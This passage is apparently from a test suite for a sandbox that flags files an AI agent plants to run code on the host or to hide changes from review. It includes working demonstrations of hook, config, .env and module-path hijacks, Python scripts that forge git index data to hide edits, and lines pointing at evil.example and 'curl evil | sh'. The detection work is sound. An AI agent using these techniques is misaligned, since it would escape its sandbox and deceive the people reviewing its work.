  const source = write('ext.c', '#include <Python.h>\n#include <stdlib.h>\nstatic struct PyModuleDef m = {PyModuleDef_HEAD_INIT, "util", 0, -1, 0};\nPyMODINIT_FUNC PyInit_util(void) { system("touch \\"$MARK\\""); return PyModule_Create(&m); }\n');
  execFileSync('cc', ['-shared', '-fPIC', `-I${include}`, source, '-o', so]);
  fs.rmSync(source);
  write('pkg/__init__.py', '');
  write('pkg/fast.abi3.so', 'x');
  write('native/build.so', 'new');
  write('.venv/lib/python3.11/site-packages/numpy/core/_multiarray.cpython-311-x86_64-linux-gnu.so', 'x');
  const after = named();
  t.same(after.filter((p) => p.endsWith('.so')), [`util${suffix}`, 'pkg/fast.abi3.so'].sort(), 'the modules beside Python sources are named; a library in a folder of no Python and an installed package\'s are not');
  t.ok(after.includes('.venv/lib/python3.11/site-packages/numpy'), 'the installed package is named as a package, as before');
  const mark = path.join(work, 'ran');
  execFileSync('python3', ['main.py'], { cwd: work, env: { ...process.env, MARK: mark } });
  t.ok(fs.existsSync(mark), 'the host\'s python main.py imports the extension in place of util.py (why it is named)');
});

t.test('ignore and attributes files that hide a change from the review are named when changed; the global ones are read-only inside', async (t) => {
  const { homeEntryFiles } = await import('../../sandbox/entry-files.ts');
  const home = tempDir(t, 'hunt20-sandbox-ignore-');
  const write = writer(home);
  const repo = path.join(home, 'src', 'app');
  write('src/app/tests/test_app.py', 'def test_x(): pass\n');
  write('src/app/app.py', 'print(1)\n');
  write('.gitconfig', '[user]\n\tname = me\n[core]\n\texcludesFile = ~/.gitignore_global\n\tattributesfile = "~/.gitattributes_global" ; shared\n[init]\n\ttemplateDir = ~/.git-templates\n');
  write('.gitignore_global', '*.swp\n');
  write('.gitattributes_global', '');
  write('.git-templates/hooks/.keep', '');
  // Programs and files the global config names by path, each a way to run code at the next commit or fetch.
  fs.appendFileSync(path.join(home, '.gitconfig'), `[gpg]\n\tprogram = ~/tools/gpg-wrap\n[alias]\n\tlg = !~/scripts/git-lg.sh --all\n[http]\n\tsslCAInfo = $HOME/certs/ca.pem\n[core]\n\teditor = "${path.join(home, 'tools', 'ed')}" -w\n[safe]\n\tdirectory = ~/src\n[url "https://github.com/"]\n\tinsteadOf = gh:\n[diff]\n\texternal = ~/tools/missing-difftool\n`);
  for (const f of ['tools/gpg-wrap', 'scripts/git-lg.sh', 'tools/ed']) write(f, '#!/bin/sh\n');
  write('certs/ca.pem', '');
  write('tpl-env/hooks/.keep', '');
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  const protectedFiles = homeEntryFiles(home, repo, [], {});
  for (const f of ['.gitignore_global', '.gitattributes_global', '.git-templates']) t.ok(protectedFiles.includes(path.join(home, f)), `${f} (named by the global config) is read-only inside`);
  t.ok(homeEntryFiles(home, repo, [], { GIT_TEMPLATE_DIR: path.join(home, 'tpl-env') }).includes(path.join(home, 'tpl-env')), 'so is the template folder GIT_TEMPLATE_DIR names');
  for (const f of ['tools/gpg-wrap', 'scripts/git-lg.sh', 'tools/ed', 'certs/ca.pem']) t.ok(protectedFiles.includes(path.join(home, f)), `~/${f}, named by path in the global config, is read-only inside`);
  t.notOk(protectedFiles.some((f) => f === path.join(home, 'src') || f.endsWith('missing-difftool')), 'a folder and a missing file it names are not taken');
  const ranAlias = path.join(home, 'alias-ran');
  fs.writeFileSync(path.join(home, 'scripts/git-lg.sh'), `#!/bin/sh\ntouch ${ranAlias}\n`, { mode: 0o755 });
  execFileSync('git', ['lg'], { cwd: repo, env: { ...GIT_ENV, GIT_CONFIG_GLOBAL: path.join(home, '.gitconfig'), HOME: home } });
  t.ok(fs.existsSync(ranAlias), 'why: the host\'s next git lg runs the file the alias names');
  // Why: a hook in the template folder is copied into the next clone and runs at its checkout.
  const mark = path.join(home, 'cloned-ran');
  fs.writeFileSync(path.join(home, 'tpl-env', 'hooks', 'post-checkout'), `#!/bin/sh\ntouch ${mark}\n`, { mode: 0o755 });
  git(home, '-c', `init.templateDir=${path.join(home, 'tpl-env')}`, 'clone', '-q', repo, path.join(home, 'clone'));
  t.ok(fs.existsSync(mark), 'the template\'s post-checkout ran in the next git clone');
  t.notOk(homeEntryFiles(home, repo, [path.join(home, '.gitignore_global')], {}).includes(path.join(home, '.gitignore_global')), '--writable naming it unlocks it');
  const since = await tick();
  const named = (): string[] => plantedSince(since, home, repo, '', {}).planted.map((f) => path.relative(home, f.path)).sort();
  t.same(named(), [], 'control');
  // The agent: a conftest.py pytest loads on the host, hidden by a .gitignore that covers itself;
  // a .gitattributes that shows app.py's diff as binary; tools' own `*` ignores (controls).
  write('src/app/tests/conftest.py', 'import os; os.system("touch $MARK")\n');
  write('src/app/tests/.gitignore', '*\n');
  write('src/app/.gitattributes', '*.py -diff\n');
  write('src/app/.pytest_cache/.gitignore', '# Created by pytest automatically.\n*\n');
  write('src/app/.venv/pyvenv.cfg', 'home = /usr/bin\n');
  write('src/app/.venv/.gitignore', '*\n');
  fs.appendFileSync(path.join(repo, 'app.py'), 'import os; os.system("touch $MARK")\n');
  t.notMatch(git(repo, 'status', '--porcelain', '--untracked-files=all'), /conftest|tests\/\.gitignore/, 'the attack: git status shows neither the conftest.py nor its .gitignore');
  git(repo, 'add', '.gitattributes');
  t.match(git(repo, 'diff', '--', 'app.py'), /Binary files/, 'the attack: git diff shows the change to app.py as binary');
  const after = named();
  t.ok(after.includes('src/app/tests/.gitignore'), `the self-covering .gitignore is named (${after.join(', ')})`);
  t.ok(after.includes('src/app/.gitattributes'), 'the .gitattributes is named');
  t.notOk(after.some((p) => p.includes('.pytest_cache') || p.includes('.venv/.gitignore')), 'the ignores tools put in their own folders are not');
  fs.appendFileSync(path.join(home, '.gitignore_global'), 'conftest.py\n'); // where --writable unlocked it
  t.ok(named().includes('.gitignore_global'), 'the global ignore file changed is named');
  fs.writeFileSync(path.join(home, '.git-templates', 'hooks', 'post-checkout'), '#!/bin/sh\n');
  t.ok(named().includes('.git-templates'), 'and the template folder');
  fs.appendFileSync(path.join(home, 'tools/gpg-wrap'), 'touch $MARK\n');
  t.ok(named().includes('tools/gpg-wrap'), 'and a program the config names');
});

t.test('a change hidden in a submodule\'s or a nested repository\'s index is named too (git status recurses into submodules)', async (t) => {
  const base = tempDir(t, 'hunt20-sandbox-gitsub-');
  const lib = path.join(base, 'lib');
  const repo = path.join(base, 'app');
  writer(lib)('lib.py', 'x = 1\n');
  git(lib, 'init', '-q');
  git(lib, 'add', '.');
  git(lib, 'commit', '-qm', 'lib');
  writer(repo)('app.py', 'import lib\n');
  writer(repo)('.gitignore', 'vendor/\n');
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'app');
  git(repo, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', lib, 'sub');
  git(repo, 'commit', '-qm', 'sub');
  writer(repo)('vendor/tool/tool.py', 'y = 2\n');
  git(path.join(repo, 'vendor', 'tool'), 'init', '-q'); // a nested repository of its own, ignored by the outer one
  git(path.join(repo, 'vendor', 'tool'), 'add', '.');
  git(path.join(repo, 'vendor', 'tool'), 'commit', '-qm', 'tool');
  const since = await tick();
  agentHides(path.join(repo, 'sub'), 'lib.py', 'skip-worktree');
  agentHides(path.join(repo, 'vendor', 'tool'), 'tool.py', 'assume-unchanged');
  t.equal(git(repo, 'status', '--porcelain'), '', 'the attack: the parent\'s git status shows nothing');
  t.equal(git(path.join(repo, 'vendor', 'tool'), 'status', '--porcelain'), '', 'nor the nested repository\'s');
  const named = plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
  t.same(named, ['sub/lib.py', 'vendor/tool/tool.py'], 'both are named');
});

t.test('the test runners\' and Svelte\'s configs their editor extensions run on opening the folder are named when made or changed', async (t) => {
  const work = tempDir(t, 'hunt20-sandbox-extcfg-');
  const write = writer(work);
  write('vite.config.ts', 'export default {}\n');
  write('web/jest.config.js', 'module.exports = {}\n');
  const since = await tick();
  const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
  t.same(named(), [], 'control: configs made before the run');
  const made = ['vitest.config.mts', 'e2e/playwright.config.ts', 'app/svelte.config.js', 'vitest.workspace.ts'];
  for (const f of made) write(f, 'import "node:child_process"; export default {}\n');
  fs.appendFileSync(path.join(work, 'web/jest.config.js'), 'require("child_process").execSync("touch $MARK")\n');
  write('vitest.setup.ts', ''); // loaded by a test run, not by the extension on opening
  t.same(named(), [...made, 'web/jest.config.js'].sort(), 'each made or changed is named; the setup file is not');
});

t.test('twenty-first pass: start files REPLs and debuggers run from the folder, build tools\' project settings and a venv\'s pip.conf are named when made or changed', async (t) => {
  const work = tempDir(t, 'hunt21-sandbox-replrc-');
  const write = writer(work);
  write('app.py', 'print("app")\n');
  write('.Rprofile', 'options(digits = 4)\n');
  write('.venv/pyvenv.cfg', 'home = /usr/bin\n');
  const since = await tick();
  const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
  t.same(named(), [], 'control: files made before the run');
  const pdbrc = 'import os; os.system("touch " + os.environ["HUNT_MARK"])\ncontinue\n';
  const made = ['.pdbrc', 'lib/.irbrc', '.pryrc', 'analysis/.Renviron', '.ghci', '.octaverc', '.bazelrc', '.jvmopts', '.sbtopts', '.mvn', 'gradle/wrapper/gradle-wrapper.jar', 'gradle/wrapper/gradle-wrapper.properties', 'ruby/.bundle'];
  for (const f of made) {
    if (f === '.mvn') write('.mvn/jvm.config', '-javaagent:x.jar\n');
    else if (f.endsWith('.bundle')) write(`${f}/config`, '---\nBUNDLE_GEMFILE: "vendor/.g/Gemfile"\n');
    else write(f, f === '.pdbrc' ? pdbrc : 'x\n');
  }
  fs.appendFileSync(path.join(work, '.Rprofile'), 'system("touch $MARK")\n');
  write('.venv/pip.conf', '[global]\nindex-url = https://evil.example/simple\n');
  t.same(named(), [...made, '.Rprofile', '.venv'].sort(), 'each made or changed is named, the venv by its pip.conf');
  // The attack: the host's next `python3 -m pdb app.py` in the project runs the agent's .pdbrc.
  const mark = path.join(work, 'PDB-RAN');
  spawnSync('python3', ['-m', 'pdb', 'app.py'], { cwd: work, env: { ...process.env, HOME: path.join(work, 'no-home'), HUNT_MARK: mark }, input: '', timeout: 10_000 });
  t.ok(fs.existsSync(mark), 'pdb on the host ran the .pdbrc the agent made');
  // bundler's user config and plugins in the home folder are read-only inside.
  const { homeEntryFiles } = await import('../../sandbox/entry-files.ts');
  const home = tempDir(t, 'hunt21-sandbox-bundle-');
  for (const f of ['.bundle/config', '.bundle/plugin/index', '.bundle/cache/x.gem']) writer(home)(f, '---\n');
  const protectedFiles = homeEntryFiles(home, path.join(home, 'src'), [], {});
  t.ok(protectedFiles.includes(path.join(home, '.bundle/config')) && protectedFiles.includes(path.join(home, '.bundle/plugin')), '~/.bundle/config and plugin/ are read-only inside');
  t.notOk(protectedFiles.some((p) => p.includes('.bundle/cache')), 'its cache is not');
});

t.test('twenty-first pass: compose override files, conftest.py, the flake and shell files direnv evaluates, and COMPOSE_FILE in a .env are named when made or changed', async (t) => {
  const work = tempDir(t, 'hunt21-sandbox-compose-');
  const write = writer(work);
  write('compose.yaml', 'services:\n  web:\n    image: nginx\n');
  write('tests/test_app.py', 'def test_ok():\n    assert True\n');
  write('flake.nix', '{ outputs = _: {}; }\n');
  write('.env', 'PORT=8080\n');
  const since = await tick();
  const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
  t.same(named(), [], 'control: files made before the run');
  const made = ['compose.override.yaml', 'svc/docker-compose.override.yml', 'tests/unit/conftest.py', 'shell.nix', 'devbox.json', '.envrc.local', '.mise'];
  for (const f of made) write(f === '.mise' ? '.mise/config.toml' : f, f.endsWith('conftest.py') ? 'import os\nopen(os.environ["HUNT_MARK"], "w").close()\n' : 'x\n');
  fs.appendFileSync(path.join(work, 'flake.nix'), '# shellHook = "curl evil | sh";\n');
  fs.appendFileSync(path.join(work, '.env'), 'COMPOSE_FILE=compose.yaml:.cache/evil.yaml\n');
  write('.env.local', 'DEBUG=1\n'); // no variable that runs code
  t.same(named(), [...made, 'flake.nix', '.env'].sort(), 'each made or changed is named; a .env.local of plain settings is not');
  // The attack: the host's next pytest imports the conftest.py the agent made.
  const mark = path.join(work, 'CONFTEST-RAN');
  spawnSync('python3', ['-m', 'pytest', '-q', '-p', 'no:cacheprovider', 'tests'], { cwd: work, env: { ...process.env, HUNT_MARK: mark }, timeout: 20_000 });
  t.ok(fs.existsSync(mark), 'pytest on the host imported it');
});

t.test('twenty-second pass: a .env setting a variable that makes git, less, kubectl, the AWS CLI or bundler run a program or read config of the agent\'s is named', async (t) => {
  // Tools load a project's .env into what they start (node --env-file, bun, pipenv, VS Code's
  // Python terminals, direnv's dotenv): GIT_DIR and HOME/XDG_CONFIG_HOME move git's config (an
  // fsmonitor runs at git status), LESSOPEN is a program less runs on every file it shows (git
  // diff's pager), KUBECONFIG's and AWS_CONFIG_FILE's files name programs (exec, credential_process).
  const work = tempDir(t, 'hunt22-sandbox-dotenv-');
  const write = writer(work);
  write('app.py', 'print(1)\n');
  execFileSync('git', ['init', '-q'], { cwd: work, env: GIT_ENV });
  const names = ['GIT_DIR', 'GIT_WORK_TREE', 'GIT_INDEX_FILE', 'GIT_TEMPLATE_DIR', 'GIT_SEQUENCE_EDITOR', 'HOME', 'XDG_CONFIG_HOME', 'LESSOPEN', 'LESSCLOSE', 'MANPAGER',
    'KUBECONFIG', 'AWS_CONFIG_FILE', 'BUNDLE_GEMFILE', 'RUSTUP_TOOLCHAIN', 'CARGO_HOME', 'PYTHONWARNINGS', 'PERL5DB', 'SUDO_ASKPASS', 'NPM_CONFIG_USERCONFIG', 'NPM_CONFIG_GLOBALCONFIG', 'npm_config_prefix', 'GEM_HOME', 'GEM_PATH', 'GOENV', 'SHELL'];
  const since = await tick();
  names.forEach((n, i) => write(`e${i}/.env`, `PORT=1\n${n}=.cache/x\n`));
  write('ok/.env', 'PORT=8080\nDATABASE_HOST=db\nHOMEPAGE_URL=https://example.com\nGIT_BRANCH=main\nLESS=-R\n');
  const named = plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path));
  t.same(names.filter((_, i) => !named.includes(`e${i}/.env`)), [], 'each variable is named');
  t.notOk(named.includes('ok/.env'), 'control: a .env of plain settings is not');
  // The attack shown: a .env moving git to a folder of the agent's, loaded by node --env-file; the
  // program's git status runs the agent's fsmonitor on the host.
  const mark = path.join(work, 'FSMONITOR-RAN');
  fs.mkdirSync(path.join(work, '.cache', 'g'), { recursive: true });
  execFileSync('git', ['init', '-q', '--bare', path.join(work, '.cache', 'g')], { env: GIT_ENV });
  fs.appendFileSync(path.join(work, '.cache', 'g', 'config'), `[core]\n\tbare = false\n\tfsmonitor = touch ${mark}; false\n`);
  write('.env', `GIT_DIR=${path.join(work, '.cache', 'g')}\n`);
  spawnSync(process.execPath, ['--env-file=.env', '-e', 'require("child_process").spawnSync("git", ["status"], { stdio: "ignore" })'], { cwd: work, env: GIT_ENV, timeout: 20_000 });
  t.ok(fs.existsSync(mark), 'git on the host ran the agent\'s program');
  t.ok(plantedSince(since, '', work).planted.some((f) => f.path === path.join(work, '.env')), 'and that .env is named');
});

t.test('twenty-second pass: a .python-version naming an interpreter by path (uv runs it) is named; one naming a version is not', async (t) => {
  // uv takes any Python request from .python-version (and .python-versions): a version, or the path
  // of an interpreter or install folder, which uv run, uv sync and uv venv in the folder run.
  const work = tempDir(t, 'hunt22-sandbox-pyver-');
  const write = writer(work);
  const since = await tick();
  const paths = ['./.cache/py/bin/python3', '.venv-x/', '/tmp/x/python', '~/bin/python', 'tools\\python.exe', '3.12\n./.cache/py'];
  const versions = ['3.12', '3.12.3\n', 'cpython@3.12', '>=3.11,<3.13', '3.13t', 'pypy3.10', '# a comment\n3.11', 'myenv'];
  paths.forEach((v, i) => write(`p${i}/${i % 2 ? '.python-versions' : '.python-version'}`, `${v}\n`));
  versions.forEach((v, i) => write(`v${i}/.python-version`, `${v}\n`));
  const named = plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path));
  t.same(paths.filter((_, i) => !named.includes(`p${i}/${i % 2 ? '.python-versions' : '.python-version'}`)), [], 'each path is named');
  t.same(named.filter((n) => n.startsWith('v')), [], 'control: versions are not');
});

t.test('twenty-second pass: the module folders PERL5LIB, PERLLIB, RUBYLIB, CLASSPATH and R_LIBS_USER name in the home folder are read-only inside and named when changed', async (t) => {
  // local::lib's bootstrap in ~/.bashrc sets PERL5LIB=~/perl5/lib/perl5: every perl program (git's
  // perl commands, exiftool, parallel) takes `use strict` from there before the system's.
  const { envEntryFiles, homeEntryFiles } = await import('../../sandbox/entry-files.ts');
  const home = tempDir(t, 'hunt22-sandbox-perl5-');
  const project = path.join(home, 'src', 'app');
  fs.mkdirSync(project, { recursive: true });
  const dirs = ['perl5/lib/perl5', 'perl-old', '.rubylib', 'java/classes', 'R/library'];
  for (const d of dirs) fs.mkdirSync(path.join(home, d), { recursive: true });
  writer(home)('java/lib.jar', 'PK');
  const env = {
    PERL5LIB: `${path.join(home, 'perl5/lib/perl5')}:/usr/share/perl5`, PERLLIB: path.join(home, 'perl-old'), RUBYLIB: '~/.rubylib',
    CLASSPATH: `.:${path.join(home, 'java/classes')}:${path.join(home, 'java/lib.jar')}`, R_LIBS_USER: path.join(home, 'R/library'),
  };
  const ro = homeEntryFiles(home, project, [], env);
  for (const d of [...dirs, 'java/lib.jar']) t.ok(ro.includes(path.join(home, d)), `~/${d} is read-only inside`);
  t.notOk([...envEntryFiles(env, home, project).keys()].some((p) => p === '/usr/share/perl5' || p === project), 'nothing outside the home folder or the working directory');
  const since = await tick();
  const strict = path.join(home, 'perl5/lib/perl5/strict.pm');
  const mark = path.join(home, 'PERL-RAN');
  fs.writeFileSync(strict, `package strict; open(my $f, '>', '${mark}'); sub import {} 1;\n`);
  t.ok(plantedSince(since, home, project, '', env).planted.some((f) => f.path === path.join(home, 'perl5/lib/perl5')), 'the module planted there is named');
  // The attack shown: the host's next perl script loads it.
  spawnSync('perl', ['-e', 'use strict; print 1'], { env: { ...process.env, PERL5LIB: env.PERL5LIB }, stdio: 'ignore', timeout: 10_000 });
  t.ok(fs.existsSync(mark), 'perl on the host ran the agent\'s strict.pm');
});

t.test('the programs ~/.ssh/config runs by path outside ~/.ssh are read-only inside and named when changed', async (t) => {
  const { homeEntryFiles, sshPrograms } = await import('../../sandbox/entry-files.ts');
  const home = tempDir(t, 'hunt20-sandbox-ssh-');
  const write = writer(home);
  write('.ssh/config', 'Host jump\n  ProxyCommand ~/bin-ssh/proxy.sh %h %p\nHost *\n  LocalCommand=$HOME/scripts/on-login.sh\nMatch host x exec "/' + 'HOME/check.sh %h"\n  KnownHostsCommand ~/scripts/missing.sh\n  IdentityFile ~/.ssh/id_ed25519\n');
  fs.writeFileSync(path.join(home, '.ssh/config'), fs.readFileSync(path.join(home, '.ssh/config'), 'utf8').replace('/HOME', home));
  for (const f of ['bin-ssh/proxy.sh', 'scripts/on-login.sh', 'check.sh']) write(f, '#!/bin/sh\n');
  const programs = sshPrograms(home).map((p) => path.relative(home, p)).sort();
  t.same(programs, ['bin-ssh/proxy.sh', 'check.sh', 'scripts/on-login.sh'], 'each program named by ProxyCommand, LocalCommand and Match exec; not a missing one, not an IdentityFile line');
  const work = path.join(home, 'src', 'app');
  fs.mkdirSync(work, { recursive: true });
  const protectedFiles = homeEntryFiles(home, work, [], {});
  for (const f of programs) t.ok(protectedFiles.includes(path.join(home, f)), `~/${f} is read-only inside`);
  const since = await tick();
  fs.appendFileSync(path.join(home, 'bin-ssh/proxy.sh'), 'touch $MARK\n'); // where --writable unlocked it
  t.ok(plantedSince(since, home, work, '', {}).planted.some((f) => f.path === path.join(home, 'bin-ssh/proxy.sh')), 'a changed one is named');
});

t.test('the files ~/.npmrc and tmux\'s config name by path are read-only inside and named when changed', async (t) => {
  const { homeEntryFiles, configNamedFiles } = await import('../../sandbox/entry-files.ts');
  const home = tempDir(t, 'hunt20-sandbox-npmrc-');
  const write = writer(home);
  write('.npmrc', `script-shell=${home}/tools/sh-wrap\nnode-options=--require ~/tools/preload.js --max-old-space-size=4096\n; cafile=~/tools/commented.pem\n`);
  write('.tmux.conf', 'set -g mouse on\nrun-shell ~/.tmux-scripts/status.sh\nsource-file "$HOME/.tmux.local"\n');
  for (const f of ['tools/sh-wrap', 'tools/preload.js', 'tools/commented.pem', '.tmux-scripts/status.sh', '.tmux.local']) write(f, '');
  const named = configNamedFiles(home).map((p) => path.relative(home, p)).sort();
  t.same(named, ['.tmux-scripts/status.sh', '.tmux.local', 'tools/preload.js', 'tools/sh-wrap'], 'each file named, not a commented line');
  const work = path.join(home, 'src');
  fs.mkdirSync(work);
  const protectedFiles = homeEntryFiles(home, work, [], {});
  for (const f of named) t.ok(protectedFiles.includes(path.join(home, f)), `~/${f} is read-only inside`);
  const since = await tick();
  fs.appendFileSync(path.join(home, 'tools/preload.js'), 'require("child_process").execSync("touch $MARK")\n');
  t.ok(plantedSince(since, home, work, '', {}).planted.some((f) => f.path === path.join(home, 'tools/preload.js')), 'a changed one is named');
});

t.test('twenty-first pass: the programs and scripts the other home configs run by path are read-only inside and named when changed', async (t) => {
  const { homeEntryFiles, configNamedFiles } = await import('../../sandbox/entry-files.ts');
  const home = tempDir(t, 'hunt21-sandbox-confprog-');
  const write = writer(home);
  write('.bashrc', 'HISTFILE=~/.bash_history\neval "$(~/tools/zoxide init bash)"\n"$HOME/scripts/motd" --short\n# ~/scripts/commented.sh\n');
  write('.config/starship.toml', '[custom.branch]\ncommand = "~/scripts/branch.sh"\nwhen = true\n');
  write('.vimrc', 'set dictionary=~/notes.txt\nsource ~/dotfiles/extra.vim\n');
  write('.config/nvim/init.lua', `dofile("${home}/lua-extra/init.lua")\n-- dofile("~/lua-extra/old.lua")\n`);
  write('.config/kitty/kitty.conf', 'map ctrl+p launch --type=overlay ~/bin-kitty/pick\n');
  write('.emacs', '(load "~/elisp/extra.el")\n');
  write('.config/fish/config.fish', 'source ~/fish-extra/abbr.fish\n');
  for (const f of ['tools/zoxide', 'scripts/motd', 'bin-kitty/pick', 'scripts/commented.sh']) {
    write(f, '#!/bin/sh\n');
    fs.chmodSync(path.join(home, f), 0o755);
  }
  for (const f of ['scripts/branch.sh', 'dotfiles/extra.vim', 'lua-extra/init.lua', 'lua-extra/old.lua', 'elisp/extra.el', 'fish-extra/abbr.fish', '.bash_history', 'notes.txt']) {
    write(f, '');
    fs.chmodSync(path.join(home, f), 0o644);
  }
  const named = configNamedFiles(home).map((p) => path.relative(home, p)).sort();
  t.same(named, ['bin-kitty/pick', 'dotfiles/extra.vim', 'elisp/extra.el', 'fish-extra/abbr.fish', 'lua-extra/init.lua', 'scripts/branch.sh', 'scripts/motd', 'tools/zoxide'],
    'each program or script named; not a history or a word list (data), not a commented line');
  const work = path.join(home, 'src');
  fs.mkdirSync(work);
  const protectedFiles = homeEntryFiles(home, work, [], {});
  for (const f of named) t.ok(protectedFiles.includes(path.join(home, f)), `~/${f} is read-only inside`);
  t.notOk(protectedFiles.includes(path.join(home, '.bash_history')), 'the history stays writable');
  const since = await tick();
  fs.appendFileSync(path.join(home, 'tools/zoxide'), 'touch $MARK\n'); // where --writable unlocked it
  fs.appendFileSync(path.join(home, '.bash_history'), 'ls\n'); // the user's other shell
  const planted = plantedSince(since, home, work, '', {}).planted.map((f) => path.relative(home, f.path));
  t.ok(planted.includes('tools/zoxide'), 'a changed one is named');
  t.notOk(planted.includes('.bash_history'), 'the history written meanwhile is not');
});

// Twenty-first pass: git's fsmonitor data. With the user's core.fsmonitor, git looks only at the
// entries the hook reports changed since the index's token (or marks dirty); the agent rewrites
// the extension with a token in the future and no entry dirty.
const FSMONITOR_HOOK = `#!/bin/sh
# protocol 1: git passes the time of its last query (ns); the files changed since, NUL-separated
secs=$(( $2 / 1000000000 ))
find . -path ./.git -prune -o -type f -newermt "@$secs" -print0 | sed -z 's|^\\./||'
`;
const FORGE_FSMONITOR = `
import hashlib, struct, sys, time
index = sys.argv[1]
b = open(index, 'rb').read()
body = b[:-20]
at = body.find(b'FSMN')
ln = struct.unpack('>I', body[at + 4:at + 8])[0]
count = struct.unpack('>I', body[8:12])[0]
if sys.argv[2] == '2':
    head = struct.pack('>I', 2) + str(time.time_ns() + 86400 * 10**9).encode() + b'\\0'
else:
    head = struct.pack('>IQ', 1, time.time_ns() + 86400 * 10**9)
ewah = struct.pack('>IIQI', count, 1, 0, 0)
ext = head + struct.pack('>I', len(ewah)) + ewah
body = body[:at] + b'FSMN' + struct.pack('>I', len(ext)) + ext + body[at + 8 + ln:]
open(index, 'wb').write(body + hashlib.sha1(body).digest())
`;

t.test('twenty-first pass: a change hidden by forged fsmonitor data in git\'s index (a token in the future) is named; the watcher\'s own data is not', async (t) => {
  const repo = tempDir(t, 'hunt21-sandbox-fsmn-');
  const hook = writer(repo)('.hook/fsmonitor', FSMONITOR_HOOK);
  for (const f of ['app.py', 'util.py', 'lib/db.py', 'later.py']) writer(repo)(f, `print(${JSON.stringify(f)})\n`);
  writer(repo)('.gitignore', '.hook/\n');
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  git(repo, 'config', 'core.fsmonitor', hook); // the user's, before the run
  git(repo, 'config', 'core.fsmonitorHookVersion', '1');
  const old = (Date.now() - 5000) / 1000;
  for (const f of ['app.py', 'util.py', 'lib/db.py', 'later.py']) fs.utimesSync(path.join(repo, f), old, old);
  git(repo, 'update-index', '--fsmonitor');
  git(repo, 'status', '--porcelain');
  t.match(fs.readFileSync(path.join(repo, '.git', 'index')).toString('latin1'), /FSMN/, 'the index holds fsmonitor data');
  const since = await tick();
  const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
  // Controls: the agent's own git status inside, then an edit after it (the watcher reports it),
  // and a change git shows.
  fs.writeFileSync(path.join(repo, 'util.py'), 'print("visible")\n');
  git(repo, 'status', '--porcelain');
  fs.writeFileSync(path.join(repo, 'later.py'), 'print("edited after the agent\'s git status")\n');
  t.same(named(), [], 'control: the watcher\'s own data, changes it reports');
  t.same(git(repo, 'status', '--porcelain').split('\n').filter(Boolean).sort(), [' M later.py', ' M util.py'], 'git status shows both');
  for (const version of ['2', '1']) {
    fs.writeFileSync(path.join(repo, 'app.py'), `import os; os.system("touch $MARK")  # ${version}\n`);
    fs.appendFileSync(path.join(repo, 'lib/db.py'), `# ${version}\n`);
    git(repo, 'add', 'later.py', 'util.py');
    // A second on: a file changed in the same second as the index is "racily clean" to git, which
    // then reads it whatever the fsmonitor data says (the attack only works on older changes).
    await new Promise((res) => setTimeout(res, 1100));
    execFileSync('python3', ['-c', FORGE_FSMONITOR, path.join(repo, '.git', 'index'), version]);
    t.equal(git(repo, 'status', '--porcelain'), 'M  later.py\nM  util.py\n', `the attack (extension version ${version}): git status shows only the staged files`);
    t.equal(git(repo, 'diff', '--name-only'), '', 'git diff nothing');
    t.same(named(), ['app.py', 'lib/db.py'], 'each hidden change is named, the staged ones are not');
    t.match(plantedSince(since, '', repo).planted.find((f) => f.path === path.join(repo, 'app.py'))?.why ?? '', /fsmonitor/, 'the reason names the fsmonitor data');
  }
});

// Twenty-first pass (follow-up): git's untracked cache. With the extension in the index (the
// user's core.untrackedCache, or the agent's own `git update-index --untracked-cache`: git keeps
// one it finds), git lists a folder again only when its stat changed; the agent drops names from
// the lists of folders whose stat is as they are now.
const FORGE_UNTRACKED = `
import hashlib, struct, sys
index, drop = sys.argv[1], [bytes.fromhex(a[4:]) if a.startswith('hex:') else a.encode() for a in sys.argv[2:]]
b = open(index, 'rb').read()
body = b[:-20]
at = body.find(b'UNTR')
ln = struct.unpack('>I', body[at + 4:at + 8])[0]
ext = body[at + 8:at + 8 + ln]
def varint(buf, i):
    c = buf[i]; i += 1; v = c & 127
    while c & 128:
        c = buf[i]; i += 1; v = ((v + 1) << 7) + (c & 127)
    return v, i
n, i = varint(ext, 0)
i = ext.index(b'\\0', i + n + 2 * 36 + 4 + 2 * 20) + 1
blocks, i = varint(ext, i)
head, out = ext[:i], b''
for _ in range(blocks):
    u, i = varint(ext, i)
    s, i = varint(ext, i)
    e = ext.index(b'\\0', i); name = ext[i:e + 1]; i = e + 1
    names = []
    for _ in range(u):
        e = ext.index(b'\\0', i); names.append(ext[i:e]); i = e + 1
    kept = [x for x in names if x not in drop]
    assert len(kept) < 128 and s < 128
    out += bytes([len(kept), s]) + name + b''.join(x + b'\\0' for x in kept)
ext = head + out + ext[i:]
body = body[:at] + b'UNTR' + struct.pack('>I', len(ext)) + ext + body[at + 8 + ln:]
open(index, 'wb').write(body + hashlib.sha1(body).digest())
`;

t.test('twenty-first pass (follow-up): new files hidden by a forged untracked cache in git\'s index are named; the agent\'s own git status is not', async (t) => {
  for (const cacheBy of ['config', 'update-index'] as const) {
    const repo = tempDir(t, `hunt21b-sandbox-untr-${cacheBy}-`);
    for (const f of ['app.py', 'scripts/test.sh', 'lib/db.py']) writer(repo)(f, 'x = 1\n');
    git(repo, 'init', '-q');
    git(repo, 'add', '.');
    git(repo, 'commit', '-qm', 'init');
    if (cacheBy === 'config') git(repo, 'config', 'core.untrackedCache', 'true'); // the user's, before the run
    git(repo, 'status', '--porcelain');
    const since = await tick();
    const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
    // The folders' times set back, so that the index is written in a later second than they (git
    // takes a folder changed in the index's own second as changed); the agent can do the same.
    const back = (): void => {
      const old = (Date.now() - 5000) / 1000;
